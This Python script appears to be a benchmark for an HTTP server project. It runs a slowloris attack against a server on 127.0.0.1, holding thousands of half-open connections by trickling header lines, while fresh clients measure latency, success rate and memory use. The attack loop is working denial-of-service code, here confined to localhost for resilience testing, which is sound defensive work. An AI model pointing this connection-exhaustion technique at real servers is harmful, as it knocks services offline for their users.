#!/usr/bin/env python3
"""Slowloris against one server (bench/run.sh, PHASES=slowloris).

  slowloris.py --server NAME --port P --tree PID --conns 10000 --duration 30 --results F

Opens --conns connections to 127.0.0.1:P (at most --window connects in flight), each
sending `GET / HTTP/1.1` and a Host line but never the blank line that ends the head,
then one more header line a second on every connection still open. Meanwhile a fresh
client every --probe-every s (new connection, GET /index.html, whole response, 5 s
limit) measures what real users see. Records: connections opened and still open at the
end (and when the server closed the rest), fresh-client success rate and latency
p50/p99/max during the attack, the server's memory (PSS) at the peak, and whether fresh
clients succeed right after the attack stops. Only 127.0.0.1 is contacted; every wait
is bounded.
"""
import argparse
import json
import os
import selectors
import socket
import statistics
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import benchlib  # noqa: E402

HOST = "127.0.0.1"
HEAD = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: rhttpd-bench-slowloris\r\n"


def fresh(port):
    t0 = time.monotonic()
    try:
        with socket.create_connection((HOST, port), timeout=5) as c:
            c.settimeout(5)
            c.sendall(b"GET /index.html HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            buf = b""
            while True:
                d = c.recv(65536)
                if not d:
                    break
                buf += d
        ok = buf.startswith(b"HTTP/1.1 200") and len(buf) > 1024
    except OSError:
        ok = False
    return ok, time.monotonic() - t0


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tree", type=int, required=True)
    p.add_argument("--conns", type=int, default=10000)
    p.add_argument("--duration", type=float, default=30.0)
    p.add_argument("--window", type=int, default=200)
    p.add_argument("--probe-every", type=float, default=0.1)
    p.add_argument("--results", required=True)
    a = p.parse_args()

    probes = []
    stop = threading.Event()

    def prober():
        while not stop.is_set():
            probes.append(fresh(a.port))
            stop.wait(a.probe_every)

    t_start = time.monotonic()
    th = threading.Thread(target=prober, daemon=True)
    th.start()
    sel = selectors.DefaultSelector()
    open_socks = []
    pending = 0
    opened = 0
    failed_connect = 0
    # Connect in windows of non-blocking connects.
    while opened + failed_connect < a.conns and time.monotonic() - t_start < a.duration / 2:
        while pending < a.window and opened + failed_connect + pending < a.conns:
            s = socket.socket()
            s.setblocking(False)
            try:
                s.connect((HOST, a.port))
            except BlockingIOError:
                pass
            except OSError:
                failed_connect += 1
                s.close()
                continue
            sel.register(s, selectors.EVENT_WRITE)
            pending += 1
        for key, _ in sel.select(timeout=1.0):
            s = key.fileobj
            sel.unregister(s)
            pending -= 1
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                failed_connect += 1
                s.close()
                continue
            try:
                s.send(HEAD)
                open_socks.append(s)
                opened += 1
            except OSError:
                failed_connect += 1
                s.close()
    for key in list(sel.get_map().values()):
        sel.unregister(key.fileobj)
        key.fileobj.close()
    t_opened = time.monotonic() - t_start
    peak = benchlib.tree_stats(a.tree)
    # Trickle a header line a second until the duration is over.
    closed_at = None
    while time.monotonic() - t_start < a.duration:
        alive = []
        for s in open_socks:
            try:
                s.send(b"X-Slow: 1\r\n")
                try:
                    if s.recv(4096) == b"":
                        s.close()
                        continue
                except BlockingIOError:
                    pass
                alive.append(s)
            except OSError:
                s.close()
        open_socks = alive
        if not open_socks and closed_at is None:
            closed_at = time.monotonic() - t_start
        m = benchlib.tree_stats(a.tree)
        if m["pss_kb"] > peak["pss_kb"]:
            peak = m
        time.sleep(1.0)
    still_open = len(open_socks)
    for s in open_socks:
        s.close()
    stop.set()
    th.join(timeout=10)
    during = list(probes)
    after = [fresh(a.port) for _ in range(20)]
    lat = sorted(t for ok, t in during if ok)
    ok_n = sum(1 for ok, _ in during if ok)

    def q(v, f):
        return round(v[min(len(v) - 1, int(len(v) * f))] * 1000, 1) if v else None

    rec = {
        "kind": "slowloris",
        "server": a.server,
        "conns": a.conns,
        "duration_s": a.duration,
        "opened": opened,
        "connect_failed": failed_connect,
        "opened_in_s": round(t_opened, 1),
        "still_open_at_end": still_open,
        "all_closed_at_s": round(closed_at, 1) if closed_at else None,
        "fresh_ok": ok_n,
        "fresh_n": len(during),
        "fresh_p50_ms": q(lat, 0.5),
        "fresh_p99_ms": q(lat, 0.99),
        "fresh_max_ms": round(lat[-1] * 1000, 1) if lat else None,
        "after_ok": sum(1 for ok, _ in after if ok),
        "peak_pss_mib": round(peak["pss_kb"] / 1024, 1),
        "peak_procs": peak["procs"],
    }
    benchlib.append(a.results, rec)
    print(
        f"  [{a.server}] slowloris {a.conns}: opened {opened} in {rec['opened_in_s']} s "
        f"(connect failed {failed_connect}); still open at {a.duration:.0f} s: {still_open}"
        f"{'' if closed_at is None else f' (all closed by {closed_at:.1f} s)'}; fresh clients "
        f"{ok_n}/{len(during)} ok, p50 {rec['fresh_p50_ms']} ms p99 {rec['fresh_p99_ms']} ms "
        f"max {rec['fresh_max_ms']} ms; after the attack {rec['after_ok']}/20; "
        f"peak PSS {rec['peak_pss_mib']} MiB in {peak['procs']} processes",
        flush=True,
    )


if __name__ == "__main__":
    main()
